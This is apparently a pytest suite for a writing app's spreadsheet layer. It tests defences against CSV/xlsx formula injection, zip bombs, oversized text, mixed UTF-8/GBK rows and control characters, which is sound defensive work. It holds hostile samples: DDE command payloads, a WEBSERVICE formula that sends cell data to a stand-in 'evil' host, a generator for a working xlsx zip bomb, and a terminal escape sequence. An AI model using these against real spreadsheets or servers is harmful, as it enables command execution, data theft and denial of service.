"""Spreadsheets at the edge (issue 21): formula injection in every CSV/xlsx the app writes,
zip bombs and oversized text refused before loading, rows that mix UTF-8 and GBK, NUL bytes."""
from __future__ import annotations

import csv
import io
import resource
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import openpyxl
import pytest

from writer.io import sheet
from writer.io.i18n import UI_LANGUAGES, Translator
from writer.io.sheet import SheetError, briefs, read_table, safe_cell, to_csv, to_xlsx
from writer.storage import usage

ROOT = Path(__file__).resolve().parents[2]
BOM = b"\xef\xbb\xbf"
MB = 1024 * 1024

# What a spreadsheet would run as a formula (OWASP's list, full-width forms, a space before).
DANGEROUS = ["=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
             "\t=1+1", "\r=1+1", "\t", "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)", " =1+1",
             "-cmd|' /C calc'!A0", "- 2+3+cmd|' /C calc'!A0", "- =HYPERLINK(\"http://x\")",
             "- WEBSERVICE(\"http://evil/?\"&A1)", "\n=1+1", "\u3000=1+1", "-5", "+3"]
# What stays as it is: Markdown list items, plain text (numbers: the next test).
HARMLESS = ["- 便携咖啡机：三分钟一杯", "- a list item", "中文", "", "plain text", "2e5", "5 - 3",
            "a=b", "100"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_every_formula_start_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_list_items_text_and_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert [safe_cell(v) for v in (3, -2, 1.5, -0.25, None)] == [3, -2, 1.5, -0.25, ""]


def _csv_rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _xlsx_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def _assert_csv_guarded(rows: list[list[str]], header_first: str) -> None:
    cells = {cell for row in rows for cell in row}
    for value in DANGEROUS:
        assert value not in cells, f"{value!r} written as it is"
        assert "'" + value in cells or "'" + value.replace("\r", "\n") in cells
    assert "- a list item" in cells
    assert rows[0][0] == header_first


def _assert_xlsx_guarded(book_sheet) -> None:
    cells = {}
    for row in book_sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            cells[cell.value] = cell.data_type
    for value in DANGEROUS:
        assert value not in cells, f"{value!r} written as it is"
    assert cells.get("- a list item") == "s"
    assert cells.get(-7) == "n" and cells.get(2.5) == "n"  # numbers stay numbers


def test_sheet_to_csv_and_to_xlsx_neutralise_every_formula():
    header = ["-header", *[f"c{i}" for i in range(len(DANGEROUS) + 3)]]
    row = [*DANGEROUS, "- a list item", "plain", -7, 2.5]
    csv_rows = _csv_rows(to_csv(header, [row]))
    _assert_csv_guarded(csv_rows, "'-header")
    assert csv_rows[1][-2:] == ["-7", "2.5"]
    _assert_xlsx_guarded(_xlsx_sheet(to_xlsx(header, [row])))


def test_usage_csv_neutralises_every_formula():
    rows = [{"topic": value, "words": -7, "cost": 2.5} for value in [*DANGEROUS, "- a list item"]]
    text = usage.to_csv(rows, {"topic": "-topic", "words": "words", "cost": "cost"}, bom=True)
    csv_rows = _csv_rows(text)
    _assert_csv_guarded(csv_rows, "'-topic")
    assert {tuple(r[1:]) for r in csv_rows[1:]} == {("-7", "2.5")}


def test_batch_results_csv_and_xlsx_neutralise_input_cells(env, tmp_path):
    from writer.config import load_settings
    from writer.providers.choice import choose_provider
    from writer.runs import batch
    from writer.storage.store import Store

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["topic", "note"])
    for value in [*DANGEROUS, "- a list item", "plain"]:
        writer.writerow(["Kettles for " + str(len(out.getvalue())), value])
    table = read_table(out.getvalue().encode("utf-8"), "evil.csv")
    store = Store(env["WRITER_DB"])
    try:
        batch_id = batch.create(store, file_name="evil.csv", table=table, rows=briefs(table),
                                provider=choose_provider(load_settings()), concurrency=1)
        data, _, _ = batch.export(store, batch_id, "csv")
        csv_rows = _csv_rows(data)
        notes = [r[1] for r in csv_rows[1:]]  # cells are read stripped: "\t" is empty
        assert all(n == "" or n.startswith("'") for n in notes[:len(DANGEROUS)]), notes
        assert "'-2+3+cmd|' /C calc'!A0" in notes
        assert notes[-2:] == ["- a list item", "plain"]
        data, _, _ = batch.export(store, batch_id, "xlsx")
        book_sheet = _xlsx_sheet(data)
        notes = [c.value for c in book_sheet["B"][1:]]
        assert all(n is None or n.startswith("'") for n in notes[:len(DANGEROUS)]), notes
        assert "'-2+3+cmd|' /C calc'!A0" in notes
        assert all(c.data_type != "f" for row in book_sheet.iter_rows() for c in row)
    finally:
        store.close()


# -- sizes: the upload limit, zip bombs, text that unpacks too big ---------------------

def test_streamlit_upload_limit_is_the_apps_own():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["maxUploadSize"] == sheet.MAX_UPLOAD_MB
    assert sheet.MAX_BYTES == sheet.MAX_UPLOAD_MB * MB
    # Streamlit's own "download as CSV" of a table writes cells unescaped: it is off.
    assert config["client"]["disableDataExport"] is True


def _write_bomb(path: Path, inflated_mb: int = 200) -> None:
    """A valid .xlsx whose one cell inflates to `inflated_mb` MB, written in 1 MB chunks."""
    parts = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
            '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels":
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml":
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.'
            'org/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels":
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://'
                         b'schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                         b'<row r="1"><c r="A1" t="inlineStr"><is><t>topic</t></is></c></row>'
                         b'<row r="2"><c r="A2" t="inlineStr"><is><t>')
            chunk = b"A" * MB
            for _ in range(inflated_mb):
                member.write(chunk)
            member.write(b"</t></is></c></row></sheetData></worksheet>")


@pytest.fixture(scope="module")
def bomb(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    _write_bomb(path)
    return path


READ_IN_CHILD = """
import sys
from writer.io.sheet import SheetError, read_table
try:
    read_table(open(sys.argv[1], "rb").read(), "bomb.xlsx")
except SheetError as exc:
    print(exc.key, exc.values.get("limit"), exc, sep="|")
else:
    print("read")
"""


def test_a_zip_bomb_is_refused_before_loading_in_little_memory(bomb):
    assert bomb.stat().st_size < sheet.MAX_BYTES  # it passes the upload limit
    # A child that runs the worker: its RUSAGE_CHILDREN is the worker's peak alone.
    runner = ("import resource, subprocess, sys\n"
              "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
              "print(done.stdout.strip(), done.stderr.strip()[-300:], sep='|')\n"
              "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
    done = subprocess.run([sys.executable, "-c", runner, sys.executable, "-c", READ_IN_CHILD,
                           str(bomb)], capture_output=True, text=True, cwd=ROOT, check=True)
    answer, peak_kb = done.stdout.strip().rsplit("\n", 1)
    assert answer.startswith("user_errors.sheet_unpacked_too_large|50|"), answer
    assert f"{sheet.MAX_UNPACKED_MB} MB" in answer
    assert int(peak_kb) < 300 * 1024, f"peak {int(peak_kb) // 1024} MB"
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss > 0


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("members, key, limit", [
    ({f"x/{i}.xml": b"<a/>" for i in range(sheet.MAX_ZIP_MEMBERS + 1)},
     "user_errors.sheet_zip_members", sheet.MAX_ZIP_MEMBERS),
    ({"xl/worksheets/sheet1.xml": b"\0" * (4 * MB)}, "user_errors.sheet_zip_ratio",
     sheet.MAX_ZIP_RATIO),
])
def test_zips_with_too_many_members_or_a_bomb_ratio_are_refused(members, key, limit):
    with pytest.raises(SheetError) as caught:
        read_table(_zip(members), "odd.xlsx")
    assert caught.value.key == key and caught.value.values["limit"] == limit
    for language in UI_LANGUAGES:  # the message names the limit in both UI languages
        assert str(limit) in Translator(language)(key, **caught.value.values)


def test_a_csv_whose_text_unpacks_over_the_limit_is_refused(monkeypatch):
    monkeypatch.setattr(sheet, "MAX_UNPACKED_MB", 1)
    data = ("topic\n" + "便携咖啡机\n" * 90_000).encode("gb18030")  # 0.94 MB in, 1.4 MB as text
    assert len(data) < MB
    with pytest.raises(SheetError) as caught:
        read_table(data, "big.csv")
    assert caught.value.key == "user_errors.sheet_unpacked_too_large"
    assert caught.value.values["limit"] == 1
    for language in UI_LANGUAGES:
        assert "1 MB" in Translator(language)(caught.value.key, **caught.value.values)


def test_a_file_over_the_upload_limit_names_the_limit():
    with pytest.raises(SheetError) as caught:
        read_table(b"x" * (sheet.MAX_BYTES + 1), "huge.csv")
    assert caught.value.key == "user_errors.sheet_too_large"
    for language in UI_LANGUAGES:
        text = Translator(language)(caught.value.key, **caught.value.values)
        assert f"{sheet.MAX_UPLOAD_MB} MB" in text


# -- encodings and control characters -------------------------------------------------

def test_rows_in_another_encoding_are_flagged_by_number_never_garbled():
    data = ("topic,sku\n".encode() + "便携咖啡机的三分钟,A\n".encode("utf-8")
            + "双十一咖啡节活动预告,B\n".encode("gbk") + "第三行的主题,C\n".encode("utf-8")
            + b"Plain ASCII topic,D\n")
    table = read_table(data, "mixed.csv")
    rows = briefs(table)
    assert [(r.number, r.ok, r.error) for r in rows] == [
        (1, True, None), (2, False, "mixed_encoding"), (3, True, None), (4, True, None)]
    assert [r.brief.topic for r in rows if r.ok] == ["便携咖啡机的三分钟", "第三行的主题",
                                                      "Plain ASCII topic"]
    assert rows[1].detail == "GBK"
    assert rows[1].cells["topic"] == "双十一咖啡节活动预告"  # shown readable, never written
    for language in UI_LANGUAGES:
        t = Translator(language)
        assert "2" in t("batch.mixed_encoding", numbers="2")
        assert "GBK" in t("batch.error_mixed_encoding", value="GBK")


def test_a_gbk_file_with_one_utf8_row_flags_that_row():
    data = ("主题,字数\n".encode("gbk") + "第一篇的主题,100\n".encode("gbk")
            + "第二篇的主题,100\n".encode("gbk") + "第三篇的主题,100\n".encode("utf-8"))
    rows = briefs(read_table(data, "gbk.csv"))
    assert [(r.number, r.error) for r in rows] == [(1, None), (2, None), (3, "mixed_encoding")]
    assert rows[2].detail == "UTF-8"
    assert [r.brief.topic for r in rows[:2]] == ["第一篇的主题", "第二篇的主题"]


def test_a_quoted_cell_over_several_lines_flags_its_row():
    data = ("topic,note\n".encode() + '"第一篇",ok\n'.encode("utf-8")
            + '"第二篇","line one\n'.encode("utf-8") + '第二行 GBK"\n'.encode("gbk")
            + '"第三篇",ok\n'.encode("utf-8"))
    rows = briefs(read_table(data, "multi.csv"))
    assert [(r.number, r.error) for r in rows] == [(1, None), (2, "mixed_encoding"), (3, None)]


@pytest.mark.parametrize("name, data", [
    ("nul.csv", b"topic,sku\nHello\x00 world,A\x00\n"),
    ("esc.csv", b"topic\nHello\x1b]0;owned\x07 world\n"),
])
def test_nul_and_control_characters_in_cells_are_removed(name, data):
    table = read_table(data, name)
    rows = briefs(table)
    assert rows[0].ok and rows[0].brief.topic in ("Hello world", "Hello]0;owned world")
    assert not any(ch in cell for cell in table.rows[0].values() for ch in "\x00\x1b\x07")
